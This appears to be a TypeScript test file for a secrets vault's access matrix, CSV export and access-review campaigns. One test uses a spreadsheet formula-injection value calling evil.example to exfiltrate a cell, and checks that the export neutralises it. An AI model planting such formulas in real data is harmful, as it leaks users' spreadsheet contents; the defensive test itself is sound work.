import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { createTenantTx, type WithTenantTx } from '../src/db/tenant.js';
import { listAllPolicies } from '../src/domains/policies/policies.repo.js';
import { computeMatrix, csvCell } from '../src/domains/access/access.service.js';
import type { Action } from '../src/policy/types.js';
import {
  agentAccessToken,
  createAgent,
  createMember,
  createPolicy,
  createTestApp,
  createVault,
  putSecret,
  type TestAgent,
  type TestApp,
  type TestMember,
  type TestOrg,
} from './support/app.js';

// P7: the effective-access matrix (JSON and CSV) and review campaigns where a reviewer keeps or
// revokes each grant. Everything is set up through the API; the database is read only to compare
// a campaign with the org's policies, and written only to move a due date into the past.

let t: TestApp;
let org: TestOrg;
let withTenantTx: WithTenantTx;
let payments: string;
let ops: string;
let teamId: string;

before(async () => {
  t = await createTestApp();
  withTenantTx = createTenantTx(t.database.db);
  org = await t.createOrg();
  const team = await t.call(org.token, { method: 'POST', url: '/v1/teams', payload: { name: 'billing' } });
  assert.equal(team.statusCode, 201, team.body);
  teamId = team.json().id;
  const vault = await t.call(org.token, { method: 'POST', url: '/v1/vaults', payload: { name: 'payments', team_id: teamId } });
  assert.equal(vault.statusCode, 201, vault.body);
  payments = vault.json().id;
  ops = await createVault(t, org, 'ops');
  await putSecret(t, org, payments, 'stripe/key', { value: 'sk_live_1' });
});
after(() => t.close());

/** A member through the API, with a display name, in the given teams. */
async function addMember(o: TestOrg, role: string, displayName = '', teams: string[] = []): Promise<TestMember> {
  const member = await createMember(t, o, role, { displayName });
  for (const team of teams) {
    const res = await t.call(o.token, { method: 'PUT', url: `/v1/teams/${team}/members/${member.id}` });
    assert.equal(res.statusCode, 204, res.body);
  }
  return member;
}

/** A policy through the API. */
async function addPolicy(
  o: TestOrg,
  p: { vaultId: string; type: 'user' | 'agent' | 'team' | 'role'; id: string; pattern: string; permissions: Action[]; effect?: 'allow' | 'deny'; expiresAt?: Date | null },
): Promise<string> {
  return createPolicy(t, o, p.vaultId, {
    principal_type: p.type,
    principal_id: p.id,
    secret_path_pattern: p.pattern,
    permissions: p.permissions,
    effect: p.effect ?? 'allow',
    expires_at: p.expiresAt ? p.expiresAt.toISOString() : null,
  });
}

const agentToken = (agent: TestAgent) => agentAccessToken(t, agent);

async function policyIds(o: TestOrg): Promise<string[]> {
  return (await withTenantTx(o.orgId, listAllPolicies)).map((p) => p.policy_id);
}

/** RFC 4180 CSV into rows of cells (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  assert.equal(cell, '', 'the CSV ends with a line break');
  return rows;
}

interface MatrixRow {
  principal_type: string;
  principal_id: string;
  principal_name: string;
  vault_id: string;
  vault_name: string;
  secret_path_pattern: string;
  actions: string[];
  effect: string;
  conditional: boolean;
  source: string;
  via: string;
  expires_at: string | null;
}

describe('access matrix', () => {
  let manager: TestMember;
  let admin: TestMember;
  let employee: TestMember;
  let agent: TestAgent;
  let agentPolicy: string;
  let teamPolicy: string;
  let denyPolicy: string;
  let expiredPolicy: string;
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  let hr: string;

  before(async () => {
    hr = await createVault(t, org, 'hr');
    manager = await addMember(org, 'manager', 'Mia Manager', [teamId]);
    admin = await addMember(org, 'admin', evil);
    employee = await addMember(org, 'employee', '');
    agent = await createAgent(t, org, 'billing-bot');
    agentPolicy = await addPolicy(org, { vaultId: payments, type: 'agent', id: agent.id, pattern: '/stripe/*', permissions: ['read'] });
    teamPolicy = await addPolicy(org, { vaultId: ops, type: 'team', id: teamId, pattern: '/deploy/**', permissions: ['describe', 'read'] });
    denyPolicy = await addPolicy(org, { vaultId: payments, type: 'user', id: manager.id, pattern: '/**', permissions: ['delete'], effect: 'deny' });
    expiredPolicy = await addPolicy(org, { vaultId: ops, type: 'agent', id: agent.id, pattern: '/**', permissions: ['read'], expiresAt: new Date(Date.now() - 1000) });
  });

  test("lists a member's role reach and an agent's policy with the granting policy id", async () => {
    const res = await t.call(org.token, { method: 'GET', url: '/v1/access/matrix' });
    assert.equal(res.statusCode, 200, res.body);
    assert.match(String(res.headers['content-type']), /^application\/json/);
    const body = res.json() as { generated_at: string; rows: MatrixRow[] };
    assert.ok(Math.abs(Date.parse(body.generated_at) - Date.now()) < 60_000);
    const rows = body.rows;

    // The manager's role reaches its team's vault only, through the team.
    const managerRole = rows.filter((r) => r.principal_id === manager.id && r.source === 'role:manager');
    assert.deepEqual(
      managerRole.map((r) => [r.vault_id, r.via, r.secret_path_pattern, r.effect]),
      [[payments, `team:${teamId}`, '/**', 'allow']],
    );
    assert.equal(managerRole[0]?.principal_name, 'Mia Manager');
    assert.ok(managerRole[0]?.actions.includes('read'));
    // Through its team it also holds the team's policy on ops; its deny is listed as such.
    const viaTeam = rows.find((r) => r.principal_id === manager.id && r.source === `policy:${teamPolicy}`);
    assert.deepEqual(viaTeam && [viaTeam.vault_id, viaTeam.via, viaTeam.secret_path_pattern, viaTeam.actions], [ops, `team:${teamId}`, '/deploy/**', ['describe', 'read']]);
    const denied = rows.find((r) => r.source === `policy:${denyPolicy}`);
    assert.deepEqual(denied && [denied.principal_id, denied.effect, denied.via, denied.actions], [manager.id, 'deny', 'direct', ['delete']]);

    // The admin's role reaches every vault.
    const adminRole = rows.filter((r) => r.principal_id === admin.id && r.source === 'role:admin');
    assert.deepEqual(adminRole.map((r) => r.vault_id).sort(), [payments, ops, hr].sort());
    assert.ok(adminRole.every((r) => r.via === 'role:admin' && r.actions.includes('admin')));

    // The agent: its policy, with the granting policy's id; never the expired one.
    const agentRows = rows.filter((r) => r.principal_id === agent.id);
    assert.deepEqual(
      agentRows.map((r) => ({ type: r.principal_type, name: r.principal_name, vault: r.vault_name, pattern: r.secret_path_pattern, actions: r.actions, source: r.source, via: r.via })),
      [{ type: 'agent', name: 'billing-bot', vault: 'payments', pattern: '/stripe/*', actions: ['read'], source: `policy:${agentPolicy}`, via: 'direct' }],
    );
    assert.equal(rows.some((r) => r.source === `policy:${expiredPolicy}`), false, 'an expired policy grants nothing');

    // An employee's role reaches no vault without a team; a nameless member is named by id.
    assert.equal(rows.some((r) => r.principal_id === employee.id), false);
    assert.doesNotMatch(res.body, /@example\.com/, 'no e-mail address is in the matrix');
  });

  test('CSV export parses, has the header, and neutralises a formula in a display name', async () => {
    const json = (await t.call(org.token, { method: 'GET', url: '/v1/access/matrix' })).json() as { rows: MatrixRow[] };
    const res = await t.call(org.token, { method: 'GET', url: '/v1/access/matrix?format=csv' });
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="access-matrix\.csv"$/);
    const rows = parseCsv(res.body);
    assert.deepEqual(rows[0], [
      'principal_type', 'principal_id', 'principal_name', 'vault_id', 'vault_name', 'secret_path_pattern',
      'actions', 'effect', 'conditional', 'source', 'via', 'expires_at',
    ]);
    assert.equal(rows.length - 1, json.rows.length, 'one line per row of the JSON matrix');
    assert.ok(rows.every((r) => r.length === 12), 'every line has every column');
    const adminLines = rows.filter((r) => r[1] === admin.id);
    assert.ok(adminLines.length > 0);
    for (const line of adminLines) assert.equal(line[2], `'${evil}`, 'the formula is prefixed with a quote, so it is text');
    assert.equal(res.body.includes(`,${evil}`), false, 'the raw formula never starts a cell');
    const agentLine = rows.find((r) => r[9] === `policy:${agentPolicy}`);
    assert.deepEqual(agentLine?.slice(5, 11), ['/stripe/*', 'read', 'allow', 'false', `policy:${agentPolicy}`, 'direct']);
  });

  test('an employee (no grant on the access area) and an agent get 404', async () => {
    for (const token of [employee.token, await agentToken(agent)]) {
      const res = await t.call(token, { method: 'GET', url: '/v1/access/matrix' });
      assert.equal(res.statusCode, 404, res.body);
      assert.equal(res.json().code, 'NOT_FOUND');
    }
  });

  test("a manager's matrix shows only the vaults it may see", async () => {
    const res = await t.call(manager.token, { method: 'GET', url: '/v1/access/matrix' });
    assert.equal(res.statusCode, 200, res.body);
    // Its team's vault, and ops, which its team's policy lets it see; never hr.
    const vaults = new Set((res.json().rows as MatrixRow[]).map((r) => r.vault_id));
    assert.deepEqual([...vaults].sort(), [payments, ops].sort());
    assert.equal(vaults.has(hr), false);
  });

  test('an unknown format is refused', async () => {
    const res = await t.call(org.token, { method: 'GET', url: '/v1/access/matrix?format=xlsx' });
    assert.equal(res.statusCode, 400);
  });
});

describe('matrix rules (pure)', () => {
  const v1 = randomUUID();
  const v2 = randomUUID();
  const team = randomUUID();
  const role = randomUUID();
  const m = randomUUID();
  const facts = {
    members: [{ member_id: m, display_name: '', role, status: 'active', teams: [team] }],
    agents: [],
    vaults: [
      { vault_id: v1, name: 'one', team_id: team },
      { vault_id: v2, name: 'two', team_id: null },
    ],
    roles: [{ role_id: role, name: 'clerk', org_grants: {}, vault_scope: 'team' as const, vault_actions: ['read', 'admin'] as Action[], restricted: true }],
    policies: [
      { policy_id: randomUUID(), vault_id: v2, principal_type: 'role' as const, principal_id: role, secret_path_pattern: '/x/*', permissions: ['admin'] as Action[], effect: 'allow' as const, conditions: {}, expires_at: null },
      { policy_id: randomUUID(), vault_id: v2, principal_type: 'role' as const, principal_id: role, secret_path_pattern: '/y/*', permissions: ['read', 'admin'] as Action[], effect: 'allow' as const, conditions: { mfa_required: true }, expires_at: null },
    ],
  };

  test("a custom team-scoped role reaches its team's vaults; a restricted role's admin is never listed", () => {
    const rows = computeMatrix(facts, new Date(), () => true);
    assert.deepEqual(
      rows.map((r) => [r.vault_name, r.source.split(':')[0], r.via, r.secret_path_pattern, r.actions, r.conditional, r.principal_name]),
      [
        ['one', 'role', `team:${team}`, '/**', ['read'], false, m],
        ['two', 'policy', `role:${role}`, '/y/*', ['read'], true, m],
      ],
    );
    assert.deepEqual(computeMatrix(facts, new Date(), (id) => id !== v1).map((r) => r.vault_name), ['two'], 'invisible vaults are left out');
  });

  test('CSV cells: formula prefixes, quoting and doubled quotes', () => {
    assert.equal(csvCell('plain'), 'plain');
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${lead}1`).replace(/^"/, '').startsWith("'"), true, JSON.stringify(lead));
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
  });
});

describe('review campaigns', () => {
  const due = () => new Date(Date.now() + 7 * 86_400_000).toISOString();
  let reviewOrg: TestOrg;
  let vault: string;
  let reviewer: TestMember;
  let otherAdmin: TestMember;
  let employee: TestMember;
  let agent: TestAgent;
  let agentPolicy: string;
  let keptPolicy: string;
  let reviewerPolicy: string;

  interface Item {
    id: string;
    policy_id: string;
    decision: string | null;
    policy_exists: boolean;
    note: string | null;
    decided_by: { type: string; id: string } | null;
    grant: { vault_id: string; principal_type: string; principal_id: string; principal_name: string; secret_path_pattern: string; permissions: string[]; effect: string };
  }

  before(async () => {
    reviewOrg = await t.createOrg();
    vault = await createVault(t, reviewOrg, 'payments');
    await putSecret(t, reviewOrg, vault, 'stripe/key', { value: 'sk_live_2' });
    reviewer = await addMember(reviewOrg, 'admin', 'Rita Reviewer');
    otherAdmin = await addMember(reviewOrg, 'admin', 'Otto');
    employee = await addMember(reviewOrg, 'employee', 'Emma');
    agent = await createAgent(t, reviewOrg, 'payout-bot');
    agentPolicy = await addPolicy(reviewOrg, { vaultId: vault, type: 'agent', id: agent.id, pattern: '/stripe/*', permissions: ['read'] });
    keptPolicy = await addPolicy(reviewOrg, { vaultId: vault, type: 'user', id: employee.id, pattern: '/stripe/**', permissions: ['read'] });
    reviewerPolicy = await addPolicy(reviewOrg, { vaultId: vault, type: 'user', id: reviewer.id, pattern: '/**', permissions: ['read'] });
  });

  async function openCampaign(body: Record<string, unknown> = {}, token = reviewOrg.token) {
    const res = await t.call(token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'Q3 review', due_at: due(), reviewer_member_id: reviewer.id, ...body } });
    assert.equal(res.statusCode, 201, res.body);
    return res.json() as { id: string; status: string; reviewer: { type: string; id: string }; counts: Record<string, number>; items: Item[] };
  }

  const itemFor = (c: { items: Item[] }, policyId: string): Item => {
    const item = c.items.find((i) => i.policy_id === policyId);
    assert.ok(item, `an item for policy ${policyId}`);
    return item;
  };

  const decide = (reviewId: string, itemId: string, decision: 'keep' | 'revoke', token = reviewer.token, note?: string) =>
    t.call(token, { method: 'POST', url: `/v1/access/reviews/${reviewId}/items/${itemId}/decision`, payload: { decision, ...(note ? { note } : {}) } });

  test('a campaign has one item per policy of the org, with a snapshot of each grant', async () => {
    const campaign = await openCampaign();
    const policies = await policyIds(reviewOrg);
    assert.equal(campaign.items.length, policies.length);
    assert.deepEqual(campaign.items.map((i) => i.policy_id).sort(), [...policies].sort());
    assert.deepEqual(campaign.counts, { total: policies.length, kept: 0, revoked: 0, unreviewed: policies.length });
    assert.deepEqual(campaign.reviewer, { type: 'user', id: reviewer.id });
    assert.equal(campaign.status, 'open');
    const item = itemFor(campaign, agentPolicy);
    const { vault_id, principal_type, principal_id, principal_name, secret_path_pattern, permissions, effect } = item.grant;
    assert.deepEqual(
      { vault_id, principal_type, principal_id, principal_name, secret_path_pattern, permissions, effect },
      { vault_id: vault, principal_type: 'agent', principal_id: agent.id, principal_name: 'payout-bot', secret_path_pattern: '/stripe/*', permissions: ['read'], effect: 'allow' },
    );
    assert.equal(item.decision, null);
    assert.equal(item.policy_exists, true);
  });

  test("revoking deletes the policy: the agent's old token stops working and a fresh one cannot read", async () => {
    const oldToken = await agentToken(agent);
    const before = await t.call(oldToken, { method: 'GET', url: `/v1/vaults/${vault}/secrets/stripe/key` });
    assert.equal(before.statusCode, 200, before.body);

    const campaign = await openCampaign();
    const res = await decide(campaign.id, itemFor(campaign, agentPolicy).id, 'revoke', reviewer.token, 'no longer needed');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.json().decision, 'revoke');
    assert.equal(res.json().note, 'no longer needed');
    assert.deepEqual(res.json().decided_by, { type: 'user', id: reviewer.id });
    assert.equal(res.json().policy_exists, false);
    assert.equal((await policyIds(reviewOrg)).includes(agentPolicy), false, 'the policy is deleted');

    const stale = await t.call(oldToken, { method: 'GET', url: `/v1/vaults/${vault}/secrets/stripe/key` });
    assert.equal(stale.statusCode, 401, 'the old token was revoked with the policy (P6)');
    const fresh = await t.call(await agentToken(agent), { method: 'GET', url: `/v1/vaults/${vault}/secrets/stripe/key` });
    assert.equal(fresh.statusCode, 404, 'a fresh token has no grant left');

    const described = (await t.call(reviewOrg.token, { method: 'GET', url: `/v1/access/reviews/${campaign.id}` })).json();
    assert.equal(described.counts.revoked, 1);
  });

  test('keeping leaves the policy, and a decided item cannot be decided again', async () => {
    const campaign = await openCampaign();
    const item = itemFor(campaign, keptPolicy);
    const kept = await decide(campaign.id, item.id, 'keep');
    assert.equal(kept.statusCode, 200, kept.body);
    assert.equal(kept.json().decision, 'keep');
    assert.ok((await policyIds(reviewOrg)).includes(keptPolicy));
    const employeeRead = await t.call(employee.token, { method: 'GET', url: `/v1/vaults/${vault}/secrets/stripe/key` });
    assert.equal(employeeRead.statusCode, 200);

    for (const decision of ['keep', 'revoke'] as const) {
      const again = await decide(campaign.id, item.id, decision);
      assert.equal(again.statusCode, 409, again.body);
      assert.equal(again.json().code, 'INVALID_STATE');
    }
    assert.ok((await policyIds(reviewOrg)).includes(keptPolicy), 'a refused revoke deletes nothing');
  });

  test('a reviewer may not review its own grant (403); another access admin stands in', async () => {
    const campaign = await openCampaign();
    const own = itemFor(campaign, reviewerPolicy);
    const refused = await decide(campaign.id, own.id, 'keep');
    assert.equal(refused.statusCode, 403, refused.body);
    assert.equal(refused.json().code, 'SEPARATION_OF_DUTIES');
    const standIn = await decide(campaign.id, own.id, 'keep', otherAdmin.token);
    assert.equal(standIn.statusCode, 200, standIn.body);
    assert.deepEqual(standIn.json().decided_by, { type: 'user', id: otherAdmin.id });
  });

  test("only the campaign's reviewer decides the other items; an employee cannot reach them", async () => {
    const campaign = await openCampaign();
    const item = itemFor(campaign, keptPolicy);
    const other = await decide(campaign.id, item.id, 'revoke', otherAdmin.token);
    assert.equal(other.statusCode, 403, other.body);
    assert.equal(other.json().code, 'SEPARATION_OF_DUTIES');
    const byEmployee = await decide(campaign.id, item.id, 'revoke', employee.token);
    assert.equal(byEmployee.statusCode, 404, byEmployee.body);
    const missing = await decide(campaign.id, randomUUID(), 'keep');
    assert.equal(missing.statusCode, 404);
    assert.ok((await policyIds(reviewOrg)).includes(keptPolicy));
  });

  test('a reviewer whose role is restricted by separation of duties may keep but not revoke', async () => {
    const role = await t.call(reviewOrg.token, {
      method: 'POST',
      url: '/v1/roles',
      payload: { name: 'auditor', org_grants: { access: ['describe', 'admin'] }, vault_scope: 'all', vault_actions: ['describe'], restricted: true },
    });
    assert.equal(role.statusCode, 201, role.body);
    const auditor = await addMember(reviewOrg, role.json().id, 'Aude');
    const campaign = await openCampaign({ reviewer_member_id: auditor.id });
    const revoke = await decide(campaign.id, itemFor(campaign, keptPolicy).id, 'revoke', auditor.token);
    assert.equal(revoke.statusCode, 403, revoke.body);
    assert.equal(revoke.json().code, 'SEPARATION_OF_DUTIES');
    assert.ok((await policyIds(reviewOrg)).includes(keptPolicy));
    const keep = await decide(campaign.id, itemFor(campaign, keptPolicy).id, 'keep', auditor.token);
    assert.equal(keep.statusCode, 200, keep.body);
  });

  test('a root-token reviewer campaign may be decided by any access admin', async () => {
    const res = await t.call(reviewOrg.token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'root review', due_at: due() } });
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.json().reviewer.type, 'root_token');
    const item = itemFor(res.json(), keptPolicy);
    const ok = await decide(res.json().id, item.id, 'keep', otherAdmin.token);
    assert.equal(ok.statusCode, 200, ok.body);
  });

  test('reminders count the unreviewed items, and are refused once nothing is left', async () => {
    const campaign = await openCampaign();
    const total = campaign.items.length;
    const first = await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/reminders` });
    assert.equal(first.statusCode, 200, first.body);
    assert.equal(first.json().unreviewed, total);
    assert.equal(first.json().reminders_sent, 1);
    assert.ok(Math.abs(Date.parse(first.json().reminded_at) - Date.now()) < 60_000);

    const kept = await decide(campaign.id, itemFor(campaign, keptPolicy).id, 'keep');
    assert.equal(kept.statusCode, 200);
    const second = await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/reminders` });
    assert.equal(second.json().unreviewed, total - 1);
    assert.equal(second.json().reminders_sent, 2);

    const list = await t.call(reviewOrg.token, { method: 'GET', url: '/v1/access/reviews' });
    const listed = (list.json().reviews as { id: string; reminders_sent: number; counts: Record<string, number>; overdue: boolean }[]).find((r) => r.id === campaign.id);
    assert.deepEqual(listed?.counts, { total, kept: 1, revoked: 0, unreviewed: total - 1 });
    assert.equal(listed?.reminders_sent, 2);
    assert.equal(listed?.overdue, false);

    for (const item of campaign.items) {
      if (item.policy_id === keptPolicy || item.policy_id === reviewerPolicy) continue;
      assert.equal((await decide(campaign.id, item.id, 'keep')).statusCode, 200);
    }
    assert.equal((await decide(campaign.id, itemFor(campaign, reviewerPolicy).id, 'keep', otherAdmin.token)).statusCode, 200);
    const none = await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/reminders` });
    assert.equal(none.statusCode, 409, none.body);
  });

  test('a campaign past its due date with unreviewed items is overdue', async () => {
    const campaign = await openCampaign();
    await withTenantTx(reviewOrg.orgId, (tx) =>
      tx.query(`UPDATE access_reviews SET due_at = now() - interval '1 day' WHERE org_id = $1 AND review_id = $2`, [reviewOrg.orgId, campaign.id]),
    );
    const described = await t.call(reviewOrg.token, { method: 'GET', url: `/v1/access/reviews/${campaign.id}` });
    assert.equal(described.json().overdue, true);
  });

  test('closing keeps unreviewed items unreviewed and reports them; a closed campaign takes no decision', async () => {
    const campaign = await openCampaign();
    await decide(campaign.id, itemFor(campaign, keptPolicy).id, 'keep');
    const closed = await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/close` });
    assert.equal(closed.statusCode, 200, closed.body);
    assert.equal(closed.json().status, 'closed');
    assert.ok(closed.json().closed_at);
    assert.equal(closed.json().counts.unreviewed, campaign.items.length - 1);
    assert.equal(closed.json().overdue, false);

    const late = await decide(campaign.id, itemFor(campaign, reviewerPolicy).id, 'keep', otherAdmin.token);
    assert.equal(late.statusCode, 409, late.body);
    assert.equal((await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/close` })).statusCode, 409);
    assert.equal((await t.call(reviewOrg.token, { method: 'POST', url: `/v1/access/reviews/${campaign.id}/reminders` })).statusCode, 409);
  });

  test('refuses a reviewer who may not run reviews, a due date in the past, and callers without admin on access', async () => {
    const notAdmin = await t.call(reviewOrg.token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'x', due_at: due(), reviewer_member_id: employee.id } });
    assert.equal(notAdmin.statusCode, 400, notAdmin.body);
    const unknown = await t.call(reviewOrg.token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'x', due_at: due(), reviewer_member_id: randomUUID() } });
    assert.equal(unknown.statusCode, 400, unknown.body);
    const past = await t.call(reviewOrg.token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'x', due_at: '2020-01-01T00:00:00Z' } });
    assert.equal(past.statusCode, 400, past.body);
    const byEmployee = await t.call(employee.token, { method: 'POST', url: '/v1/access/reviews', payload: { name: 'x', due_at: due() } });
    assert.equal(byEmployee.statusCode, 404, byEmployee.body);
    assert.equal((await t.call(employee.token, { method: 'GET', url: '/v1/access/reviews' })).statusCode, 404);
  });

  test("another org's campaign is 404, exactly like a missing one", async () => {
    const campaign = await openCampaign();
    const missing = await t.call(org.token, { method: 'GET', url: `/v1/access/reviews/${randomUUID()}` });
    const foreign = await t.call(org.token, { method: 'GET', url: `/v1/access/reviews/${campaign.id}` });
    assert.equal(foreign.statusCode, 404);
    assert.equal(foreign.json().code, missing.json().code);
    const foreignDecide = await decide(campaign.id, campaign.items[0]?.id ?? randomUUID(), 'revoke', org.token);
    assert.equal(foreignDecide.statusCode, 404);
  });

  test('decisions are audited with the authorization behind them', async () => {
    const campaign = await openCampaign();
    const res = await decide(campaign.id, itemFor(campaign, keptPolicy).id, 'keep');
    assert.equal(res.statusCode, 200);
    const events = await t.call(reviewOrg.token, { method: 'GET', url: '/v1/audit/events?limit=1000&action=access.review.decide' });
    const mine = (events.json().events as { event: { request_id: string; outcome: string; resource: { ref: string }; authz?: { allow: boolean; by: string[] } } }[]).find(
      (e) => e.event.request_id === res.headers['x-request-id'],
    );
    assert.ok(mine, 'the decision is in the audit log');
    assert.equal(mine.event.outcome, 'success');
    assert.equal(mine.event.resource.ref, `access_review:${campaign.id}`);
    assert.deepEqual(mine.event.authz, { allow: true, action: 'admin', by: ['role:admin'] });
  });
});
